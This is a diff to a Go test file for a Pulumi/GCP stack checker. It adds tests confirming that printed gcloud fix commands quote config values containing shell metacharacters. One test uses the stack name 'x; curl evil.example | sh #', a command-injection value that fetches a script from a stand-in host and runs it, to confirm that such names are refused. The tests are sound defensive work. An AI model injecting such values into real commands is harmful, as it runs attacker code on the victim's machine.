@@ -53,23 +53,27 @@ var healthy = commands{
 // noFile is the config of a new stack.
 const noFile = "no file"
 
-// configure makes the folder of a project whose stack dev has keys, KEY=VALUE, besides
+// configure makes the folder of a project whose stack dev has keys, KEY=VALUE, and a
 // gcp:project.
 func configure(t *testing.T, set string) {
 	t.Helper()
 	t.Chdir(t.TempDir())
-	text := `{"gcp:project": "acme-timber"`
+	project, text := `"acme-timber"`, ""
 	for field := range strings.FieldsSeq(set) {
 		key, value, _ := strings.Cut(field, "=")
 		if !strings.HasPrefix(value, "{") {
 			value = strconv.Quote(value)
+		}
+		if key == "gcp:project" {
+			project = value
+			continue
 		}
 		text += fmt.Sprintf(`, "shop:%s": %s`, key, value)
 	}
 	const defaults = "name: shop\nconfig:\n  location: {default: europe-west1-d}\n  nodes: {default: 3}\n  machineType: {default: n1-standard-1}\n"
 	err := os.WriteFile("Pulumi.yaml", []byte(defaults), 0o600)
 	if set != noFile {
-		err = errors.Join(err, os.WriteFile("Pulumi.dev.yaml", []byte(`{"config": `+text+"}}"), 0o600))
+		err = errors.Join(err, os.WriteFile("Pulumi.dev.yaml", []byte(`{"config": {"gcp:project": `+project+text+"}}"), 0o600))
 	}
 	if err != nil {
 		t.Fatal(err)
@@ -108,6 +112,8 @@ func (c commands) install(t *testing.T) {
 	}
 }
 
+var ofProject = regexp.MustCompile(`^/v1/projects/(acme-timber|p;id):testIamPermissions$`)
+
 // grantAll is a Google that grants each permission but these.
 func grantAll(t *testing.T, but ...string) {
 	t.Helper()
@@ -116,7 +122,7 @@ func grantAll(t *testing.T, but ...string) {
 		if err := json.NewDecoder(r.Body).Decode(&question); err != nil {
 			t.Error(err)
 		}
-		if r.URL.Path != "/v1/projects/acme-timber:testIamPermissions" || r.Header.Get("Authorization") != "Bearer ya29.token" || len(question.Permissions) < 6 {
+		if !ofProject.MatchString(r.URL.Path) || r.Header.Get("Authorization") != "Bearer ya29.token" || len(question.Permissions) < 6 {
 			http.Error(w, `{"error": {"code": 401, "message": "Request had invalid authentication credentials."}}`, http.StatusUnauthorized)
 			return
 		}
@@ -228,6 +234,11 @@ func TestFindings(t *testing.T) {
 				`[{"name": "projects/acme-timber/locations/global/certificates/other", "managed": {"domains": ["other.example.com"], "state": "FAILED"}},
 				{"name": "projects/acme-timber/locations/global/certificates/hello-timber-1a2b3c4", "managed": {"domains": [%q], "state": %q%s}}]`, name, state, more)}
 	}
+	forShell := commands{
+		"gcloud projects describe p;id --format=json":         `{"lifecycleState": "ACTIVE"}`,
+		"gcloud billing projects describe p;id --format=json": `{"billingEnabled": false}`,
+		strings.ReplaceAll(services, "acme-timber", "p;id"):   `[]`,
+	}
 	ofClass := commands{outputs: `{"cluster": "mine", "url": "https://oak.example.com", "dnsRecords": ["oak.example.com. 300 IN A 203.0.113.80"]}`}
 	names := dns{}
 	for name, data := range map[string][2]string{"oak": {"203.0.113.80", "proof.goog."}, "ash": {"192.0.2.1", "proof.goog."}, "elm": {"203.0.113.80,2001:db8::80", "proof.goog."}, "fir": {"203.0.113.80", ""}, "yew": {"down", "down"}} {
@@ -294,6 +305,16 @@ func TestFindings(t *testing.T) {
 		"an address of the other tier": {"address=203.0.113.9", reserved(`europe-west1", "addressType": "EXTERNAL", "networkTier": "STANDARD", "status": "RESERVED"`), nil, reserve},
 		"an address in use":            {"address=203.0.113.9", reserved(`europe-west1", "status": "IN_USE"`), nil, reserve},
 		"its own address":              {"address=203.0.113.9", merge(reserved(`europe-west1", "status": "IN_USE"`), commands{outputs: `{"cluster": "c", "url": "http://203.0.113.9"}`}), nil, "ok       address  203.0.113.9, reserved as timber"},
+		"a project for a shell":        {"gcp:project=p;id", commands{"gcloud projects describe p;id --format=json": `{"lifecycleState": "DELETE_REQUESTED"}`}, nil, "MISSING  project … Fix: gcloud projects undelete 'p;id'"},
+		"its billing":                  {"gcp:project=p;id", forShell, nil, "MISSING  billing … Fix: gcloud billing projects link 'p;id' --billing"},
+		"its API":                      {"gcp:project=p;id", forShell, nil, "MISSING  apis … --project 'p;id'"},
+		"its roles":                    {"gcp:project=p;id", forShell, []string{"dns.changes.create", "iam.serviceAccounts.actAs"}, "MISSING  roles … add-iam-policy-binding 'p;id' --member"},
+		"its network":                  {"gcp:project=p;id", merge(forShell, commands{of("default", "p;id"): `[]`}), nil, "MISSING  network … networks create default --subnet-mode auto --project 'p;id'"},
+		"a network for a shell":        {"network=n;id subnetwork=s;id", commands{of("n;id", "acme-timber"): `[]`}, nil, "MISSING  network … subnets create 's;id' --network 'n;id' --range"},
+		"a range for a shell":          {"subnetwork=s;id secondaryRanges=r;id", commands{of("default", "acme-timber"): `[{"name": "s;id", "privateIpGoogleAccess": true}]`}, nil, "MISSING  network … subnets update 's;id' --region europe-west1 --project acme-timber --add-secondary-ranges 'r;id'=RANGE"},
+		"a subnet for a shell":         {"", commands{of("default", "acme-timber"): `[{"name": "s$id"}]`}, nil, "MISSING  network … pulumi config set subnetwork 's$id' --stack dev"},
+		"a region for a shell":         {"location=l;id address=203.0.113.9", commands{addresses: `[]`}, nil, "MISSING  address … --region 'l;id' --project acme-timber,"},
+		"a zone for a shell":           {"domain=ivy.example.com dnsZone=p;id/z;id", domain("ivy.example.com", "PROVISIONING", ""), nil, "MISSING  domain … managed-zones describe 'z;id' --project 'p;id'"},
 		"a reserved address":           {"address=203.0.113.9", reserved(`europe-west1", "addressType": "EXTERNAL", "networkTier": "PREMIUM", "status": "RESERVED"`), nil, "ok       address  203.0.113.9, reserved as timber"},
 		"a domain of a class":          {"kubeconfig=/k context=mine domain=oak.example.com", ofClass, nil, "ok       domain   oak.example.com, with its record"},
 		"a domain of a class, not up":  {"kubeconfig=/k context=mine domain=oak.example.com", nil, nil, "ok       domain   oak.example.com, whose records the next update lists"},
@@ -336,6 +357,14 @@ func TestFindings(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestStackName: a name that would be more than that in the printed commands is refused.
+func TestStackName(t *testing.T) {
+	var out strings.Builder
+	if err := examine(t.Context(), "x; curl evil.example | sh #", &out); err == nil || !strings.Contains(err.Error(), "is not a stack's name") || out.Len() > 0 {
+		t.Errorf("it ends with %v after\n%s", err, &out)
 	}
 }
 
